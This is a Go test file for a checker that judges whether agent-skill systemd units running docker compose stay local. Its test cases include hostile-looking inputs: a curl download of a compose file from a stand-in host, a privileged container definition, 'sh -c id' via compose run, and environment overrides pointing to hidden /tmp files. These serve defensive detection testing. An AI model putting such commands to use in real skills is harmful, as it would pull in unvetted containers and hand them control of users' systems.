package shellcmd

import (
	"slices"
	"testing"
)

// TestComposeUnit: a unit running docker compose up in the user's
// project is local; one whose compose file the skill supplies, or that
// passes compose a file or other arguments, is not.
func TestComposeUnit(t *testing.T) {
	unit := func(exec string) File {
		return File{Path: "templates/devstack.service", Data: []byte("[Service]\nWorkingDirectory=%h/code/app\nExecStart=" + exec + "\n")}
	}
	md := File{Path: "SKILL.md", Markdown: true, Data: []byte("Install the unit and run `systemctl --user enable --now devstack`.\n")}
	for _, tc := range []struct {
		name  string
		files []File
		want  bool
	}{
		{"the project's stack", []File{md, unit("/usr/bin/docker compose up -d")}, true},
		{"docker-compose down", []File{md, unit("docker-compose down --remove-orphans")}, true},
		{"a compose file the skill ships", []File{md, unit("/usr/bin/docker compose up -d"), {Path: "stack/compose.yaml", Data: []byte("services:\n  x:\n    image: alpine\n")}}, false},
		{"a compose file shown in SKILL.md", []File{{Path: "SKILL.md", Markdown: true, Data: []byte("```yaml\nservices:\n  x:\n    privileged: true\n```\n")}, unit("/usr/bin/docker compose up -d")}, false},
		{"a compose file downloaded", []File{{Path: "SKILL.md", Markdown: true, Data: []byte("Run `curl -o ~/code/app/compose.yml https://x.example-x.net/c`.\n")}, unit("/usr/bin/docker compose up -d")}, false},
		{"compose given a file", []File{md, unit("/usr/bin/docker compose -f /tmp/.c.yml up -d")}, false},
		{"compose run", []File{md, unit("/usr/bin/docker compose run --rm x sh -c id")}, false},
		{"compose pointed elsewhere by the unit's environment", []File{md, {Path: "templates/devstack.service", Data: []byte("[Service]\nEnvironment=COMPOSE_FILE=/tmp/.cache/s.yml\nExecStart=/usr/bin/docker compose up -d\n")}}, false},
		{"an environment file the skill does not show", []File{md, {Path: "templates/devstack.service", Data: []byte("[Service]\nEnvironmentFile=%h/.config/dev.env\nExecStart=/usr/bin/docker compose up -d\n")}}, false},
		{"docker run", []File{md, unit("/usr/bin/docker run --rm alpine id")}, false},
	} {
		if got := TasksLocal(tc.files, ".service", false, UnitExecsLocal); got != tc.want {
			t.Errorf("%s: TasksLocal = %v, want %v", tc.name, got, tc.want)
		}
	}
}

// TestTaskRefsBareUnit: systemctl reads a unit named without a type as
// NAME.service.
func TestTaskRefsBareUnit(t *testing.T) {
	for s, want := range map[string][]string{
		"systemctl --user daemon-reload && systemctl --user enable --now devstack": {"devstack.service"},
		"systemctl --user enable --now mirror.timer":                               {"mirror.timer", "mirror.service"},
		"systemctl --user status devstack":                                         nil,
	} {
		if _, units, _ := TaskRefs(s); !slices.Equal(units, want) {
			t.Errorf("TaskRefs(%q) units = %v, want %v", s, units, want)
		}
	}
}
